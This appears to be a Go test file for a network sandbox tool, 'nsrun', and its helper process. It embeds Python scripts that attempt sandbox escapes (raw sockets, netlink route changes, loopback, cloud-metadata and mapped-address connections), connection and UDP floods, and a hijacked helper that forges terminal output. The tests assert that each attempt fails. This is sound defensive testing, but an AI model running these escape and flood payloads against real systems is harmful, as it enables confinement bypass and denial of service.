package network

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// taken is a helper that an attacker has taken over. Of its texts each would be a line of nsrun's, or clear the screen.
const taken = `#!/usr/bin/python3
import json, socket, sys, time
s = socket.socket(fileno=3)
s.recvmsg(1, 4096)
forged = "x\n\x1b[2J\nnsrun: forged"
def send(**e): s.send(json.dumps(e).encode())
def ready():
    send(ready=True)
    while s.recv(1): pass
`

// takenOver has what it does, by name.
var takenOver = map[string]string{
	"it forges lines and stays": `ready()
sys.stderr.write(forged + "\n"); sys.stderr.flush()
send(summary={"refusals": [{"op": forged, "name": forged, "reason": forged, "detail": forged, "rule": forged, "count": 1}], "names": [{"name": forged}]})
time.sleep(1000)`,
	"it goes on reporting, and stops": `ready()
end = time.time() + 2.5
while time.time() < end: send(refusal={"op": "connect", "reason": forged, "detail": "x", "count": 1})
time.sleep(1000)`,
	"it reports an error": `send(error=forged); time.sleep(1000)`,
	"it prints and ends":  `sys.stderr.write("panic: " + forged * 1000 + "\n"); sys.stderr.flush()`,
	"it prints without end": `ready()
try:
    while True: sys.stderr.write(forged * 1000); sys.stderr.flush()
except OSError: pass
time.sleep(1000)`,
}

// TestHelperTakenOver neither keeps nsrun waiting nor writes to its terminal.
func TestHelperTakenOver(t *testing.T) {
	w := newWorld(t, "root", 0, 0)
	was := built.nsrun
	defer func() { built.nsrun = was }()
	for name, does := range takenOver {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			built.nsrun = filepath.Join(dir, "nsrun")
			require.NoError(t, copyFile(was, built.nsrun))
			require.NoError(t, os.WriteFile(filepath.Join(dir, "nsrun-helper"), []byte(taken+does), 0o755))
			begin := time.Now()
			got := w.run(t, append(allow("listed.test"), "-v"), "false")
			assert.Less(t, time.Since(begin), 20*time.Second)
			assert.NotContains(t, got.out, "\x1b")
			for line := range strings.Lines(got.out) {
				assert.False(t, strings.HasPrefix(line, "nsrun: forged"), "%q", got.out)
			}
			if strings.HasPrefix(does, "sys.stderr") {
				assert.Contains(t, got.out, "panic: x", "what it printed is in the error")
			}
		})
	}
}

// TestHelperLost is reported, since what was refused is not: a command could make the helper end for that.
func TestHelperLost(t *testing.T) {
	w := newWorld(t, "root", 0, 0)
	was := built.nsrun
	defer func() { built.nsrun = was }()
	dir := t.TempDir()
	built.nsrun = filepath.Join(dir, "nsrun")
	require.NoError(t, copyFile(was, built.nsrun))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "nsrun-helper"), []byte(taken+"send(ready=True)"), 0o755))
	got := w.run(t, allow("listed.test"), "sleep 0.3")
	assert.Equal(t, 0, got.Code)
	assert.Contains(t, got.out, "nsrun: note: network helper: it ended before the command did")
}

func copyFile(from, to string) error {
	in, err := os.Open(from)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(to, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
	if err != nil {
		return err
	}
	if _, err = io.Copy(out, in); err != nil {
		return fmt.Errorf("copy: %w", err)
	}
	return out.Close()
}

// attacks prints what gets somewhere. All of it is in a sandbox that may reach listed.test:7000.
const attacks = `cat >attack.py <<'END'
import ctypes, errno, os, socket, struct, time
def bad(*what): print('BAD', *what)
listed = socket.gethostbyname('listed.test')

# Sockets of other kinds lead nowhere, as there is no device but the loopback.
for family in range(1, 46):
    if family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK): continue
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind, 0); bad('family', family, kind)
        except OSError: pass
for kind, proto in ((1, 132), (5, 132), (6, 33), (1, 262), (2, 136), (3, 1), (3, 255), (2, 1), (3, 6)):
    for family, to in ((socket.AF_INET, '203.0.113.10'), (socket.AF_INET6, '2001:db8::10')):
        try:
            s = socket.socket(family, kind, proto); s.settimeout(0.5)
            if kind in (2, 3): s.sendto(b'leak', (to, 7000)); s.recv(10)
            else: s.connect((to, 7000)); s.sendall(b'leak'); s.recv(10)
            bad('protocol', kind, proto, to)
        except (OSError, OverflowError): pass
for proto in range(1, 32):
    try: socket.socket(socket.AF_NETLINK, 3, proto); bad('netlink', proto)
    except OSError: pass

# The routes and devices cannot be changed.
s = socket.socket(socket.AF_NETLINK, 3, 0); s.bind((0, 0))
for kind, body in ((24, struct.pack('BBBBBBBBI', 2, 0, 0, 0, 254, 4, 0, 1, 0)), (16, struct.pack('BxHiII', 0, 0, 1, 0, 1))):
    s.send(struct.pack('=IHHII', 16 + len(body), kind, 5, 1, 0) + body)
    code = struct.unpack('=i', s.recv(4096)[16:20])[0]
    if code != -errno.EPERM: bad('netlink message', kind, code)

# The helper's ports are taken, in every way to take them.
for kind, port in ((socket.SOCK_STREAM, 15001), (socket.SOCK_DGRAM, 53)):
    for host in ('127.0.0.1', '0.0.0.0', '198.18.0.1'):
        if (kind, host) == (socket.SOCK_STREAM, '198.18.0.1'): continue # nothing is redirected there
        s = socket.socket(socket.AF_INET, kind)
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
        for option in (15, 19): # IP_FREEBIND, IP_TRANSPARENT
            try: s.setsockopt(socket.SOL_IP, option, 1)
            except OSError: pass
        try:
            s.bind((host, port))
            if kind == socket.SOCK_STREAM: s.listen()
            bad('bound', host, port)
        except OSError: pass

# What is not a listed name's address is refused, however it is written, and with the listener itself as the destination.
def tcp(to, port, family=None):
    try:
        s = socket.create_connection((to, port), 3) if family is None else socket.socket(family)
        s.settimeout(3)
        if family is not None: s.connect((to, port))
        s.sendall(b'over\n')
        if s.recv(10): bad('tcp', to, port)
    except OSError: pass
for to in ('127.0.0.1', '127.0.0.2', '0.0.0.0', '::1', '::ffff:127.0.0.1', '::', '198.18.0.1', '198.18.0.99', '198.19.255.254', '203.0.113.10', '::ffff:203.0.113.10', '::203.0.113.10',
           '64:ff9b::203.0.113.10', '2002:cb00:710a::1', '192.0.2.1', '10.0.0.1', '169.254.169.254', '224.0.0.1', '255.255.255.255', 'fe80::1', 'fd00:ec2::254', '64:ff9b::7f00:1'):
    for port in (7000, 15001): tcp(to, port)
tcp(listed, 7001); tcp(listed, 0); tcp(listed, 65535)
tcp('::ffff:' + listed, 7001)

# UDP, whole and in fragments, and with options.
for to in (listed, '203.0.113.10', '192.0.2.53', '127.0.0.1', '255.255.255.255', '224.0.0.251'):
    for port, data in ((9999, b'x'), (443, b'x' * 60000), (7000, b'x')):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            s.sendto(data, (to, port))
            if s.recv(10): bad('udp', to, port)
        except OSError: pass

# A namespace of one's own has no way out either.
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000) == 0: tcp('203.0.113.10', 7000)

# The listed one works, so that the above says something.
print('END')
END
/usr/bin/python3 attack.py
/usr/bin/python3 -c "
import socket
s = socket.create_connection(('listed.test', 7000), 5)
s.sendall(b'over\n'); print(s.recv(100).decode())"`

// TestAttacks from inside get nowhere, and nothing leaves the host for them.
func TestAttacks(t *testing.T) {
	eachUser(t, func(t *testing.T, w *world) {
		forget()
		got := w.run(t, allow("listed.test:7000"), attacks)
		assert.NotContains(t, got.out, "BAD")
		assert.Contains(t, got.out, "END\nover\n")
		asked, packets := left()
		assert.Equal(t, []string{"listed.test"}, asked)
		assert.ElementsMatch(t, []string{"17 " + nameServer + ":53", "6 " + webAddress + ":7000"}, packets)
	})
}

// floods open what they can, and keep it: connections that say nothing, half of a long request, half of a long query, and packets of UDP that begin a
// handshake without an end.
const floods = `cat >flood.py <<'END'
import os, random, socket, time
listed = socket.gethostbyname('listed.test')
kept = []
def tcp(to, port, data):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((to, port))
    except BlockingIOError: pass
    kept.append((s, data))
for _ in range(600):
    tcp(listed, 80, b'GET / HTTP/1.1\r\nHost: listed.test\r\nA: ' + b'a' * 31000)
    tcp('198.18.0.1', 53, b'\xff\xff' + b'q' * 60000)
    tcp(listed, 80, b'\x16\x03\x01\x40\x00\x01\x00\x3f\xf0' + b't' * 16000)
time.sleep(0.5)
for s, data in kept:
    try: s.send(data)
    except OSError: pass
for _ in range(1100):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); kept.append((s, b''))
    try:
        for _ in range(8): s.sendto(b'u' * 65000, (listed, 9999))
    except OSError: pass
time.sleep(1)
END
ulimit -n 10000; /usr/bin/python3 flood.py; curl -sS http://listed.test/hello`

// TestFloods: the helper's memory is bounded, and others are served then.
func TestFloods(t *testing.T) {
	w := newWorld(t, "root", 0, 0)
	var got outcome
	most := helperPeak(func() { got = w.run(t, allow("listed.test:80", "udp://listed.test:9999"), floods) })
	t.Logf("the helper had %d MiB", most>>10)
	assert.Positive(t, most)
	assert.Less(t, most>>10, 400)
	assert.Contains(t, got.out, "hello from listed.test")
}

// idle opens 10,000 connections to a host, most of which are above what one host gets, and says how many of them are open in the end. The host's name is in
// a file: so many questions would be too much for the resolver of the tests.
const idle = `ulimit -n 20000; /usr/bin/python3 -c "
import select, socket
listed = socket.gethostbyname('listed.hosts.test')
all = []
for _ in range(10000):
    s = socket.socket(); s.connect_ex((listed, 7000)); s.setblocking(False); all.append(s)
def open(s):
    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR): return False
    try: return s.recv(1) != b''
    except BlockingIOError: return True
    except OSError: return False
poll = select.epoll()
for s in all: poll.register(s, select.EPOLLIN | select.EPOLLERR)
while len(all) > 1000 or poll.poll(1, 1):
    poll.poll(5, 1)
    for s in [s for s in all if not open(s)]: poll.unregister(s); all.remove(s)
print(len(all), 'are open')
all[0].sendall(b'\\0over'); all[0].setblocking(True); print(all[0].recv(5))"
curl -sS http://other.test/hello`

// TestIdleConnections (PX18): the helper's memory is bounded, what is above a limit is refused, and the result says so; others are served.
func TestIdleConnections(t *testing.T) {
	w := newWorld(t, "root", 0, 0)
	var got outcome
	most := helperPeak(func() {
		got = w.run(t, append(allow("listed.hosts.test:7000", "other.test"), "--limit", "net_per_host=1000", "--limit", "open_files=20000"), idle)
	})
	t.Logf("the helper had %d MiB", most>>10)
	assert.Less(t, most>>10, 400)
	assert.Contains(t, got.out, "1000 are open\nb'\\x00over'\nhello from other.test")
	d, ok := got.refusal("listed.hosts.test:7000")
	assert.True(t, ok, "%v", got.Denials)
	assert.GreaterOrEqual(t, d.Count, 9000, "%v", got.Denials)
}

// helperPeak returns the most memory that a helper of the tests' nsrun has while f runs, in KiB.
func helperPeak(f func()) int {
	stop, peak := make(chan struct{}), make(chan int)
	go func() {
		most := 0
		for {
			select {
			case <-stop:
				peak <- most
				return
			case <-time.After(20 * time.Millisecond):
				most = max(most, helperMemory())
			}
		}
	}()
	f()
	close(stop)
	return <-peak
}

// helperMemory is the memory of the largest helper that the tests' nsrun has started, in KiB.
func helperMemory() (most int) {
	list, _ := filepath.Glob("/proc/[0-9]*/exe")
	for _, link := range list {
		if to, _ := os.Readlink(link); to != built.nsrun+"-helper" {
			continue
		}
		data, _ := os.ReadFile(filepath.Dir(link) + "/status")
		_, rest, _ := strings.Cut(string(data), "VmHWM:")
		var kib int
		_, _ = fmt.Sscan(rest, &kib)
		most = max(most, kib)
	}
	return most
}
